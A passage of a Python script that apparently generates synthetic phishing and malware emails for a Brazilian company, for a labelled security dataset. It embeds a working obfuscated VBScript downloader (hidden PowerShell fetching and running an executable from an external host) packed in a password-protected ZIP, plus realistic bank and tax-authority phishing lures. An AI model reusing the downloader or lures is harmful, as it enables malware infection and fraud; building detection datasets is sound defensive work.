            upd(ch)
        header = bytes.fromhex(hx(f"{seed}{idx}hdr", 22)) + bytes([crc >> 24])
        enc = bytearray()
        for p in header + deflated:
            tmp = (keys[2] | 2) & 0xFFFF
            k = ((tmp * (tmp ^ 1)) >> 8) & 0xFF
            enc.append(p ^ k)
            upd(p)
        fname = name.encode("utf-8")
        flags = 0x0001 | (0x0800 if any(b > 127 for b in fname) else 0)
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, 8, dostime, dosdate, crc, len(enc), len(data),
                           len(fname), 0) + fname + enc
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, 8, dostime, dosdate, crc, len(enc),
                               len(data), len(fname), 0, 0, 0, 0, 0x20, offset) + fname
    cd_off = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), cd_off, 0)
    return bytes(out)


def pdf_doc(lines: list[str], title: str, producer: str, created: str, link: tuple[str, str] | None = None,
            author: str = "") -> bytes:
    """A one-page PDF: text lines (latin-1), optional button with a URI link and a label."""
    content = ["BT", "/F1 11 Tf", "15 TL", "56 780 Td"]
    for ln in lines:
        content.append(f"({files._pdf_escape(ln)}) Tj T*")
    content.append("ET")
    rect = (150, 380, 445, 420)
    if link:
        x0, y0, x1, y1 = rect
        content += ["0.0 0.32 0.62 rg", f"{x0} {y0} {x1 - x0} {y1 - y0} re f", "BT /F1 13 Tf 1 1 1 rg",
                    f"{x0 + 22} {y0 + 14} Td ({files._pdf_escape(link[1])}) Tj ET"]
    stream = "\n".join(content).encode("latin-1")
    annots = " /Annots [6 0 R]" if link else ""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        (f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> "
         f"/Contents 5 0 R{annots} >>").encode(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
    ]
    if link:
        x0, y0, x1, y1 = rect
        objects.append(f"<< /Type /Annot /Subtype /Link /Rect [{x0} {y0} {x1} {y1}] /Border [0 0 0] "
                       f"/A << /S /URI /URI ({files._pdf_escape(link[0])}) >> >>".encode())
    info = len(objects) + 1
    objects.append((f"<< /Title ({files._pdf_escape(title)}) /Author ({files._pdf_escape(author)}) "
                    f"/Producer ({files._pdf_escape(producer)}) /CreationDate (D:{created}) >>").encode("latin-1"))
    return files.pdf_file(objects, info)


def pdf_qr(lines_top: list[str], lines_bottom: list[str], url: str, title: str, producer: str, created: str) -> bytes:
    """A one-page PDF with text and a QR code image (no clickable link: the phone does the rest)."""
    import segno

    rows = list(segno.make(url, error="m", micro=False).matrix_iter(scale=4, border=4))
    size = len(rows)
    pixels = b"".join(bytes(0 if dark else 255 for dark in row) for row in rows)
    image = zlib.compress(pixels, 9)
    content = ["BT", "/F1 12 Tf", "16 TL", "56 780 Td"]
    for ln in lines_top:
        content.append(f"({files._pdf_escape(ln)}) Tj T*")
    content.append("ET")
    content.append(f"q 200 0 0 200 197 330 cm /Im1 Do Q")
    content += ["BT", "/F1 10 Tf", "14 TL", "56 300 Td"]
    for ln in lines_bottom:
        content.append(f"({files._pdf_escape(ln)}) Tj T*")
    content.append("ET")
    stream = "\n".join(content).encode("latin-1")
    objects = files.image_page(stream, image, size, size, "FlateDecode")
    objects.append((f"<< /Title ({files._pdf_escape(title)}) /Producer ({files._pdf_escape(producer)}) "
                    f"/CreationDate (D:{created}) >>").encode("latin-1"))
    return files.pdf_file(objects, 7)


def xlsx(sheet: str, rows: list[list], creator: str, created: str) -> bytes:
    """A small Excel workbook (inline strings), enough for a real spreadsheet reader."""
    from xml.sax.saxutils import escape

    def col(i: int) -> str:
        s = ""
        i += 1
        while i:
            i, r = divmod(i - 1, 26)
            s = chr(65 + r) + s
        return s

    xml_rows = []
    for r, row in enumerate(rows, start=1):
        cells = []
        for c, v in enumerate(row):
            ref = f"{col(c)}{r}"
            if isinstance(v, (int, float)):
                cells.append(f'<c r="{ref}"><v>{v}</v></c>')
            elif v is None or v == "":
                continue
            else:
                cells.append(f'<c r="{ref}" t="inlineStr"><is><t>{escape(str(v))}</t></is></c>')
        xml_rows.append(f'<row r="{r}">{"".join(cells)}</row>')
    sheet_xml = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                 '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                 f'<sheetData>{"".join(xml_rows)}</sheetData></worksheet>').encode()
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
          '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
          '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
          '</Types>').encode()
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>'
            '</Relationships>').encode()
    wb = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
          'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
          f'<sheets><sheet name="{escape(sheet)}" sheetId="1" r:id="rId1"/></sheets></workbook>').encode()
    wb_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
               '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
               '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
               '</Relationships>').encode()
    core = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
            'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" '
            'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
            f'<dc:creator>{escape(creator)}</dc:creator><cp:lastModifiedBy>{escape(creator)}</cp:lastModifiedBy>'
            f'<dcterms:created xsi:type="dcterms:W3CDTF">{created}</dcterms:created>'
            f'<dcterms:modified xsi:type="dcterms:W3CDTF">{created}</dcterms:modified>'
            '</cp:coreProperties>').encode()
    return files.zip_archive([("[Content_Types].xml", ct), ("_rels/.rels", rels), ("xl/workbook.xml", wb),
                              ("xl/_rels/workbook.xml.rels", wb_rels), ("xl/worksheets/sheet1.xml", sheet_xml),
                              ("docProps/core.xml", core)])


def png_logo(seed: str, w: int = 120, h: int = 36, rgb: tuple[int, int, int] = (236, 112, 0)) -> bytes:
    """A flat-colour PNG banner/logo made with zlib only."""
    raw = b"".join(b"\x00" + bytes(rgb) * w for _ in range(h))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b""))

XLSX_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def ew(s: str, cs: str = "UTF-8", mode: str = "Q") -> str:
    """RFC 2047 encoded words for a header value, folded like mail clients do."""
    if all(ord(c) < 128 for c in s):
        return s
    words = []
    if mode == "B":
        chunk = ""
        for ch in s:
            if len((chunk + ch).encode(cs.lower())) > 45:
                words.append(chunk)
                chunk = ""
            chunk += ch
        if chunk:
            words.append(chunk)
        return "\n ".join(f"=?{cs}?B?{base64.b64encode(w.encode(cs.lower())).decode()}?=" for w in words)
    cur = ""
    for ch in s:
        if ch == " ":
            piece = "_"
        elif ch.isascii() and (ch.isalnum() or ch in "!*+-/.,:;"):
            piece = ch
        else:
            piece = "".join(f"={b:02X}" for b in ch.encode(cs.lower()))
        if len(cur) + len(piece) > 60:
            words.append(cur)
            cur = ""
        cur += piece
    if cur:
        words.append(cur)
    return "\n ".join(f"=?{cs}?Q?{w}?=" for w in words)


def addr(name: str, email_: str, cs: str = "UTF-8", mode: str = "Q", quote: bool = True) -> str:
    if not name:
        return email_ if not quote else f"<{email_}>"
    if all(ord(c) < 128 for c in name):
        if any(c in name for c in ",.()@:;[]") or quote:
            return f'"{name}" <{email_}>'
        return f"{name} <{email_}>"
    return f"{ew(name, cs, mode)} <{email_}>"


# =========================================================================
#  BRAZIL: TransVale Logística (São Paulo), Microsoft 365 — attacks
# =========================================================================

TV = "transvale.com.br"


def br_nfe_link_zip() -> None:
    slug = "br-nfe-link-zip-grandoreiro"
    t = T(2024, 5, 14, 10, 22, 31, -3)
    srv = "srv186.prodns.com.br"
    top, tail = rx_m365(BR_M365, slug, t=t, ip="177.12.174.38", host=srv, mailfrom="<faturamento@vidracariasaojudas.com.br>",
                        from_dom="vidracariasaojudas.com.br", spf="pass", dkim="pass", dmarc="none", action="none",
                        compauth="softpass", reason="201", ctry="BR")
    hops = [f"Received: from vidracariasaojudas.com.br ([177.12.174.38]:41752 helo=srv186.prodns.com.br)\n\tby {srv} with esmtpa (Exim 4.96.2)\n"
            f"\t(envelope-from <faturamento@vidracariasaojudas.com.br>)\n\tid 1s6ub7-0003Qx-2N;\n\t{rfc(t - timedelta(seconds=3))}"]
    mid = f"<{hx(slug, 32)}@vidracariasaojudas.com.br>"
    orig = [dkim_sig("vidracariasaojudas.com.br", "default", slug, t,
                     "Content-Transfer-Encoding:Content-Type:MIME-Version:Message-ID:Subject:To:From:Date:Sender:Reply-To:Cc:Content-ID:Content-Description:In-Reply-To:References:List-Id:List-Help:List-Unsubscribe:List-Subscribe:List-Post:List-Owner:List-Archive"),
            f"Date: {rfc(t)}",
            "To: fiscal@transvale.com.br",
            "From: Sistema NF-e <faturamento@vidracariasaojudas.com.br>",
            f"Subject: {ew('Nota Fiscal Eletrônica Nº 000.184.772 - Série 1 - Emitida em 14/05/2024')}",
            f"Message-ID: {mid}",
            "X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)",
            "MIME-Version: 1.0"]
    orig += antiabuse(srv, TV, "vidracariasaojudas.com.br", "faturamento@vidracariasaojudas.com.br")
    link = "https://arquivos-nfe-nacional.azurewebsites.net/download/NFe_000184772_DANFE_XML.zip"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"></head>
<body style="font-family:Tahoma, Arial; font-size:13px; color:#333">
<table width="620" cellpadding="0" cellspacing="0" style="border:1px solid #d9d9d9">
<tr><td style="background:#1f4e79; color:#fff; padding:14px; font-size:16px"><b>NF-e - Nota Fiscal Eletrônica</b></td></tr>
<tr><td style="padding:18px">
<p>Prezado(a) cliente,</p>
<p>Você está recebendo a Nota Fiscal Eletrônica número <b>000.184.772</b>, série <b>1</b>, emitida em <b>14/05/2024</b>, no valor de <b>R$ 7.384,20</b>.</p>
<p>Destinatário: <b>TRANSVALE LOGISTICA LTDA</b><br>
Chave de acesso: 3524 0509 4471 2300 0163 5500 1000 1847 7210 4417 5530</p>
<p>O arquivo XML e o DANFE (PDF) estão disponíveis para download no link abaixo:</p>
<p style="text-align:center; margin:24px 0"><a href="{link}" style="background:#2e75b6; color:#fff; padding:11px 26px; text-decoration:none; border-radius:3px"><b>BAIXAR DANFE / XML</b></a></p>
<p style="font-size:11px; color:#888">O download ficará disponível por 72 horas. Caso o link não funcione, copie e cole no navegador:<br>{link}</p>
<p>Atenciosamente,<br>Departamento de Faturamento</p>
</td></tr></table>
<p style="font-size:10px; color:#aaa">Esta é uma mensagem automática, favor não responder.</p>
</body></html>
"""
    plain = (f"Prezado(a) cliente,\n\nVocê está recebendo a Nota Fiscal Eletrônica número 000.184.772, série 1, emitida em 14/05/2024, "
             f"no valor de R$ 7.384,20.\n\nPara baixar o DANFE e o XML acesse:\n{link}\n\nAtenciosamente,\nDepartamento de Faturamento\n")
    body = alt(slug, plain, html, "phpmailer", charset="iso-8859-1")
    add("malware", "phish", slug,
        "Grandoreiro-style fake NF-e from a compromised glazier's cPanel mailbox (SPF/DKIM pass), button links straight to a ZIP on azurewebsites.net.",
        hdr(top, hops, orig, tail), body)


VBS_BOLETO = r'''' 2via Boleto - gerado automaticamente
On Error Resume Next
Dim a1, a2, a3, z
a1 = "p" & "o" & "w" & "e" & "r" & "s" & "h" & "e" & "l" & "l"
a2 = " -w h" & "idden -nop -ep by" & "pass -c "
z = Chr(34)
a3 = "$u='h'+'ttps://cdn-boletos-2via.com/st/'+'bol.png';$d=$env:APPDATA+'\\Micr0soft\\';" & _
     "New-Item -ItemType Directory -Force -Path $d|Out-Null;" & _
     "(New-Object Net.WebClient).DownloadFile($u,$d+'upd.zip');" & _
     "Expand-Archive -Force $d'upd.zip' $d;Start-Process $d'update.exe'"
Set oSh = CreateObject("WScript" & ".Shell")
oSh.Run a1 & a2 & z & a3 & z, 0, False
MsgBox "Boleto indisponivel no momento. Tente novamente mais tarde.", 48, "Santander"
'''


def br_boleto_pwzip_vbs() -> None:
    slug = "br-boleto-senha-zip-vbs"
    t = T(2023, 3, 6, 8, 47, 12, -3)
    dom = "grupoalvorada-adm.com"
    top, tail = rx_m365(BR_M365, slug, t=t, ip="45.162.229.71", host="mail.grupoalvorada-adm.com",
                        mailfrom="<cobranca@grupoalvorada-adm.com>", from_dom=dom, spf="pass", dkim="none",
                        dmarc="none", compauth="softpass", reason="201", ctry="BR")
    hops = [f"Received: from localhost (localhost [127.0.0.1])\n\tby mail.grupoalvorada-adm.com (Postfix) with ESMTPSA id 4PVQ7m2Jk1z4wL\n"
            f"\tfor <juliana.ferraz@transvale.com.br>; {rfc(t - timedelta(seconds=2))}"]
    mid = f"<{hx(slug, 20)}.{num(slug, 1000, 9999)}@grupoalvorada-adm.com>"
    orig = [f"From: {addr('Departamento de Cobrança', 'cobranca@grupoalvorada-adm.com', 'iso-8859-1')}",
            "To: juliana.ferraz@transvale.com.br",
            f"Subject: {ew('2ª Via Boleto Santander - Vencimento 08/03/2023 - Contrato 4471', 'iso-8859-1')}",
            f"Date: {rfc(t)}",
            f"Message-ID: {mid}",
            "X-Priority: 1 (Highest)",
            "MIME-Version: 1.0"]
    plain = """Prezado(a) cliente,

Segue em anexo a 2ª via do boleto referente ao contrato 4471, com vencimento em 08/03/2023.

Valor: R$ 2.918,40

Por questões de segurança o arquivo está protegido.
SENHA DO ARQUIVO: 4471

Evite juros e a inclusão do CNPJ nos órgãos de proteção ao crédito (SPC/Serasa).

Atenciosamente,
Departamento de Cobrança
"""
    zdata = zip_crypto([("2via_Boleto_Santander_Contrato4471.vbs", VBS_BOLETO.encode("latin-1"))], "4471", slug)
    body = Multi("mixed", boundary(slug, "kit"), [
        text(plain, "plain", "8bit", "iso-8859-1"),
        attachment("application/x-zip-compressed", "2via_Boleto_Santander_Contrato4471.zip", zdata),
    ])
    add("malware", "phish", slug,
        "Ousaban-style fake Santander boleto: password-protected ZIP (password 4471 in the body) holding a VBS downloader; attacker domain with SPF pass, no DKIM.",
        hdr(top, hops, orig, tail), body)


def br_ecac_cpf_irregular() -> None:
    slug = "br-ecac-cpf-irregular-pix"
    t = T(2024, 7, 23, 16, 5, 44, -3)
    dom = "receitafederal-regularize.org"
    ses = f"0103{hx(slug, 12)}-{hx(slug + '1', 8)}-{hx(slug + '2', 4)}-{hx(slug + '3', 4)}-{hx(slug + '4', 4)}-{hx(slug + '5', 12)}-000000"
    top, tail = rx_m365(BR_M365, slug, t=t, ip="54.240.27.56", host="a27-56.smtp-out.sa-east-1.amazonses.com",
                        mailfrom=f"<{ses}@sa-east-1.amazonses.com>", from_dom=dom, spf="pass", dkim="pass",
                        dkim_d=dom, dmarc="none", compauth="softpass", reason="201", ctry="BR")
    orig = [dkim_sig(dom, hx(slug + "sel", 32), slug, t, "Subject:From:To:Date:Mime-Version:Content-Type:Content-Transfer-Encoding:Message-ID", c="relaxed/simple"),
            dkim_sig("amazonses.com", "ug7nbtf4gccmlpwj322ax3p6ow6yfsug", slug + "ses", t,
                     "Subject:From:To:Date:Mime-Version:Content-Type:Content-Transfer-Encoding:Message-ID:Feedback-ID", c="relaxed/simple"),
            f"Subject: {ew('Receita Federal: Pendência no seu CPF - Regularize até 25/07/2024', mode='B')}",
            f"From: {addr('Receita Federal do Brasil', 'comunicado@receitafederal-regularize.org', quote=False)}",
            "To: anderson.lima@transvale.com.br",
            f"Date: {rfc(utc(t))}",
            "MIME-Version: 1.0",
            f"Message-ID: <{ses}@sa-east-1.amazonses.com>",
            f"Feedback-ID: ::1.sa-east-1.{b64s(slug + 'fb', 43)}=:AmazonSES",
            f"X-SES-Outgoing: 2024.07.23-54.240.27.56"]
    link = "https://receitafederal-regularize.org/e-cac/consulta/?cpf=3**.***.***-4*&protocolo=RFB2024071839"
    html = f"""<!DOCTYPE html><html lang="pt-br"><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f1f1f1;font-family:'Rawline',Arial,sans-serif">
<div style="max-width:600px;margin:0 auto;background:#fff">
<div style="background:#1351b4;padding:16px 24px"><span style="color:#fff;font-size:20px;font-weight:bold">gov.br</span>
<span style="color:#c5d4eb;font-size:13px;margin-left:12px">Receita Federal</span></div>
<div style="padding:24px;color:#333;font-size:15px;line-height:1.5">
<p><b>Prezado(a) contribuinte,</b></p>
<p>Identificamos uma <b>pendência na Declaração de Imposto de Renda Pessoa Física (DIRPF 2024)</b> vinculada ao seu CPF. Em razão disso, a situação cadastral do seu CPF foi alterada para <span style="color:#c00;font-weight:bold">PENDENTE DE REGULARIZAÇÃO</span>.</p>
<table style="width:100%;border-collapse:collapse;font-size:14px;margin:12px 0">
<tr><td style="border:1px solid #ddd;padding:8px;background:#f8f8f8">Protocolo</td><td style="border:1px solid #ddd;padding:8px">RFB2024071839</td></tr>
<tr><td style="border:1px solid #ddd;padding:8px;background:#f8f8f8">Situação</td><td style="border:1px solid #ddd;padding:8px">Pendente de regularização</td></tr>
<tr><td style="border:1px solid #ddd;padding:8px;background:#f8f8f8">Prazo</td><td style="border:1px solid #ddd;padding:8px">25/07/2024</td></tr></table>
<p>Caso não seja regularizado dentro do prazo, o CPF será <b>SUSPENSO</b>, impossibilitando abertura de contas, emissão de passaporte, recebimento de restituição e de salários.</p>
<p>A regularização pode ser feita de forma simples através do e-CAC, com emissão do DARF e pagamento via Pix.</p>
<p style="text-align:center;margin:28px 0"><a href="{link}" style="background:#1351b4;color:#fff;padding:12px 30px;border-radius:20px;text-decoration:none;font-weight:bold">Regularizar meu CPF</a></p>
<p style="font-size:12px;color:#777">Secretaria Especial da Receita Federal do Brasil<br>Ministério da Fazenda</p>
</div></div></body></html>
"""
    plain = ("Prezado(a) contribuinte,\n\nIdentificamos uma pendência na DIRPF 2024 vinculada ao seu CPF. Situação: PENDENTE DE REGULARIZAÇÃO.\n"
             f"Regularize até 25/07/2024 para evitar a suspensão do CPF:\n{link}\n\nReceita Federal do Brasil\n")
    body = alt(slug, plain, html, "ses", enc="quoted-printable")
    add("phishing", "phish", slug,
        "Receita Federal / e-CAC lure claiming the CPF is irregular, sent through Amazon SES from a look-alike domain, leads to a DARF-via-Pix payment page.",
        hdr(top, orig, tail), body)


def br_itau_itoken() -> None:
    slug = "br-itau-itoken-sincronizar"
    t = T(2025, 2, 11, 9, 14, 3, -3)
    dom = "itau-seguranca.app.br"
    top, tail = rx_m365(BR_M365, slug, t=t, ip="191.101.31.204", host="mail.itau-seguranca.app.br",
                        mailfrom="<atendimento@itau-seguranca.app.br>", from_dom=dom, spf="pass", dkim="pass",
                        dmarc="pass", compauth="pass", reason="100", ctry="US")
    hops = [f"Received: by mail.itau-seguranca.app.br (Postfix, from userid 1001)\n\tid 4YsT1k0nZRz9sWb; {rfc(t - timedelta(seconds=1))}"]
    orig = [dkim_sig(dom, "mail", slug, t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
            f"To: patricia.albuquerque@transvale.com.br",
            f"Subject: {ew('Itaú Empresas: seu iToken precisa ser sincronizado hoje')}",
            f"Message-ID: <{hx(slug, 32)}@itau-seguranca.app.br>",
            f"Date: {rfc(t)}",
            f"From: {addr('Itaú Empresas', 'atendimento@itau-seguranca.app.br', quote=False)}",
            "MIME-Version: 1.0",
            "X-Mailer: Microsoft Outlook 16.0"]
    link = "https://itau-seguranca.app.br/empresas/itoken/sincronizar?c=ptr-" + hx(slug + "c", 10)
    html = f"""<html><body style="background:#efe9e5;margin:0;padding:20px 0">
<table align="center" width="600" style="background:#ffffff;font-family:Arial,Helvetica,sans-serif;color:#3c3c3c">
<tr><td style="background:#ec7000;padding:18px 24px"><img src="https://itau-seguranca.app.br/img/logo-itau.png" alt="Itaú" width="48" height="48"></td></tr>
<tr><td style="padding:28px 32px;font-size:15px;line-height:22px">
<p>Olá, <b>PATRICIA ALBUQUERQUE</b></p>
<p>Identificamos que o <b>iToken</b> vinculado à conta da empresa <b>TRANSVALE LOGISTICA</b> está desatualizado após a atualização de segurança do aplicativo Itaú Empresas.</p>
<p>Para continuar realizando <b>Pix, TED e pagamentos</b>, é necessário sincronizar o dispositivo até as <b>23h59 de hoje</b>. Após esse prazo, as transações ficarão bloqueadas e a liberação só poderá ser feita na agência.</p>
<p style="text-align:center;padding:12px 0"><a href="{link}" style="background:#ec7000;color:#fff;text-decoration:none;padding:14px 36px;border-radius:4px;font-weight:bold">sincronizar iToken</a></p>
<p style="font-size:13px;color:#767676">O procedimento leva menos de 2 minutos. Tenha em mãos o código do seu iToken.</p>
</td></tr>
<tr><td style="padding:16px 32px;font-size:11px;color:#959595;border-top:1px solid #eee">Itaú Unibanco S.A. - CNPJ 60.701.190/0001-04. Este é um e-mail automático, não responda.</td></tr>
</table></body></html>
"""
    plain = f"Olá, PATRICIA ALBUQUERQUE\n\nSeu iToken está desatualizado. Sincronize até as 23h59 de hoje: {link}\n\nItaú Empresas\n"
    body = alt(slug, plain, html, "outlook")
    add("phishing", "phish", slug,
        "Itaú Empresas 'sincronize seu iToken hoje' lure from a registered look-alike .app.br domain that passes its own SPF/DKIM/DMARC.",
        hdr(top, hops, orig, tail), body)


def br_bb_pix_compromised_school() -> None:
    slug = "br-bb-pix-confirmacao-escola"
    t = T(2024, 9, 3, 14, 41, 56, -3)
    dom = "colegioarcoiris.g12.br"
    src = "CP6P152MB6417.LAMP152.PROD.OUTLOOK.COM"
    out = "CP4P152CA0031.LAMP152.PROD.OUTLOOK.COM"
    top, tail = rx_m365(BR_M365, slug, t=t, ip="2a01:111:f403:c20a::7", host="BRAPR03CU001.outbound.protection.outlook.com",
                        received_ip_label="2a01:111:f403:c20a::7", mailfrom="<secretaria@colegioarcoiris.g12.br>",
                        from_dom=dom, spf="pass", dkim="pass", dmarc="pass", compauth="pass", reason="100", ctry="BR",
                        tls="TLS1_3", cipher="TLS_AES_256_GCM_SHA384")
    hops = ms_outbound_hops(slug, t - timedelta(seconds=1), src, "2603:10d6:102:1e1::19", out, "2603:10d6:102:9a::6")
    hops += ms_arc_out(slug, t, dom, "", dom)
    orig = [dkim_sig(dom, "selector1", slug, t,
                     "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck", style="ms"),
            "From: BB Comunicados <secretaria@colegioarcoiris.g12.br>",
            "To: Undisclosed recipients:;",
            f"Subject: {ew('Pix de R$ 4.870,00 aguardando confirmação - Banco do Brasil', 'iso-8859-1')}",
            "Thread-Topic: Pix de R$ 4.870,00 aguardando confirmacao - Banco do Brasil",
            f"Thread-Index: {thread_index(slug)}",
            f"Date: {rfc(utc(t))}",
            f"Message-ID: {outlook_mid(slug, src)}",
            "Accept-Language: pt-BR, en-US",
            "Content-Language: pt-BR",
            "X-MS-Has-Attach:",
            "X-MS-TNEF-Correlator:",
            "MIME-Version: 1.0"]
    link = "https://bb-pixseguro.com/confirmacao/?tkn=" + hx(slug + "tkn", 24)
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"></head>
<body><div style="font-family:Calibri, Arial, sans-serif; font-size:11pt">
<table width="560" style="border:1px solid #e6e6e6" cellpadding="0" cellspacing="0">
<tr><td style="background:#fcfc30; padding:14px 20px; font-size:18px; color:#465eff"><b>Banco do Brasil</b></td></tr>
<tr><td style="padding:20px; color:#333">
<p>Prezado(a) cliente,</p>
<p>Recebemos uma solicitação de <b>transferência Pix</b> a partir da sua conta que está <b>aguardando confirmação</b>:</p>
<p style="background:#f3f5ff; padding:12px">Valor: <b>R$ 4.870,00</b><br>Favorecido: MARCIO J DA SILVA<br>Instituição: 323 - MERCADO PAGO<br>Data: 03/09/2024 14:22</p>
<p>Se você <b>não reconhece</b> esta operação, cancele imediatamente pelo link abaixo para evitar o débito:</p>
<p><a href="{link}" style="color:#465eff; font-weight:bold">Cancelar transação Pix</a></p>
<p>Caso não haja manifestação em até 2 horas, a transferência será concluída automaticamente.</p>
<p>Atenciosamente,<br>Central de Relacionamento BB</p>
</td></tr></table></div></body></html>
"""
    plain = (f"Prezado(a) cliente,\n\nSolicitação de Pix aguardando confirmação: R$ 4.870,00 para MARCIO J DA SILVA.\n"
             f"Se não reconhece, cancele: {link}\n\nCentral de Relacionamento BB\n")
    body = alt(slug, plain, html, "outlook", charset="iso-8859-1")
    add("phishing", "phish", slug,
        "Banco do Brasil 'Pix aguardando confirmação' lure sent from a compromised school's Microsoft 365 mailbox (full SPF/DKIM/DMARC pass), link to a look-alike cancel page.",
        hdr(top, hops, orig, tail), body)


def br_nubank_callback() -> None:
    slug = "br-nubank-compra-callback"
    t = T(2023, 11, 24, 20, 3, 17, -3)
    dom = "nu-atendimento.com.br"
    top, tail = rx_m365(BR_M365, slug, t=t, ip="149.72.168.52", host="o2.ptr4412.nu-atendimento.com.br",
                        mailfrom="<bounces+38114522-9a0c-juliana.ferraz=transvale.com.br@em5521.nu-atendimento.com.br>",
                        from_dom=dom, spf="pass", dkim="pass", dmarc="pass", compauth="pass", reason="100", ctry="US")
    orig = [dkim_sig(dom, "s1", slug, t, "cc:content-type:from:subject:to:cc:content-type:from:subject:to", c="relaxed/relaxed"),
            dkim_sig("sendgrid.info", "smtpapi", slug + "sg", t, "cc:content-type:from:subject:to:cc:content-type:from:subject:to"),
            f"Date: {rfc(utc(t))}",
            "From: Nubank <avisos@nu-atendimento.com.br>",
            "Mime-Version: 1.0",
            f"Subject: {ew('Compra aprovada: R$ 3.849,90 em MAGAZINE ONLINE*PARC 1/1')}",
            "To: juliana.ferraz@transvale.com.br",
            f"Message-ID: <{b64url(slug, 22)}@geopod-ismtpd-canary-0>",
            f"X-SG-EID: {b64s(slug + 'eid', 120)}",
            f"X-Entity-ID: u001.{b64s(slug + 'ent', 22)}=="]
    html = """<div style="background:#f5f5f5;padding:24px 0;font-family:Graphik,Helvetica,Arial,sans-serif">
<div style="max-width:520px;margin:0 auto;background:#fff;border-radius:8px;overflow:hidden">
<div style="background:#820ad1;padding:22px 28px;color:#fff;font-size:22px;font-weight:600">nu</div>
<div style="padding:28px;color:#111;font-size:15px;line-height:1.55">
<p>Olá, Juliana</p>
<p>Uma compra foi aprovada no seu cartão de crédito final <b>•••• 7732</b>:</p>
<p style="font-size:26px;font-weight:600;margin:6px 0">R$ 3.849,90</p>
<p style="color:#555;margin-top:0">MAGAZINE ONLINE*PARC · 24 NOV 19:58 · 1x</p>
<hr style="border:none;border-top:1px solid #eee">
<p><b>Não reconhece esta compra?</b><br>Nossa equipe de segurança está disponível 24h. Ligue agora para a central de contestação e informe o protocolo <b>NU-88412-3</b>:</p>
<p style="font-size:20px;font-weight:600;color:#820ad1">0800 591 4470</p>
<p style="font-size:13px;color:#666">Por segurança, o cancelamento só pode ser feito pelo telefone. Não compartilhe sua senha com ninguém.</p>
</div></div></div>
"""
    plain = ("Olá, Juliana\n\nUma compra foi aprovada no seu cartão final 7732: R$ 3.849,90 - MAGAZINE ONLINE*PARC - 24 NOV 19:58.\n\n"
             "Não reconhece esta compra? Ligue para a central de contestação: 0800 591 4470 (protocolo NU-88412-3).\n")
    body = alt(slug, plain, html, "sendgrid")
    add("phishing", "phish", slug,
        "Nubank 'compra aprovada' callback scam on Black Friday: no link, only a fake 0800 contestation number; look-alike domain sending through SendGrid.",
        hdr(top, orig, tail), body)


def br_bradesco_spoof_html() -> None:
    slug = "br-bradesco-netempresa-html-anexo"
    t = T(2024, 1, 29, 7, 52, 40, -3)
    top, tail = rx_m365(BR_M365, slug, t=t, ip="103.147.184.19", host="vmi1587702.contaboserver.net",
                        mailfrom="<root@vmi1587702.contaboserver.net>", from_dom="bradesco.com.br", spf="none",
                        dkim="none", dmarc="fail", action="oreject", compauth="fail", reason="000", ctry="SG",
                        scl=5, sfv="SPM", dest="J")
    orig = [f"Date: {rfc(t)}",
            "To: financeiro@transvale.com.br",
